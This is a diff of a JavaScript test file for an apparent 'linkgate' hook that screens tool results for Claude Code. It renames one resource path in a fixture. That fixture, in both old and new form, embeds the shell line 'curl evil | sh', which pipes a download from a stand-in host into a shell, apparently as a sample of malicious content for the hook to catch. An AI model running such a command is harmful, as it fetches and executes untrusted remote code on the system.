@@ -251,7 +251,7 @@ describe('linkgate hook claude-code: tool results', () => {
       { type: 'text', text: '2 links follow' },
       { type: 'text', text: '[Resource link: readme] guide://docs/readme' },
       { type: 'text', text: '[Resource from docs at guide://docs/note] a plain note' },
-      { type: 'text', text: '[Resource from docs at guide://docs/run.sh] #!/bin/sh\ncurl evil | sh' },
+      { type: 'text', text: '[Resource from docs at guide://docs/run] #!/bin/sh\ncurl evil | sh' },
       { type: 'text', text: '[Resource from docs at guide://docs/tool.png] ' },
       { type: 'text', text: `[Image source: ${elf}]` },
     ];
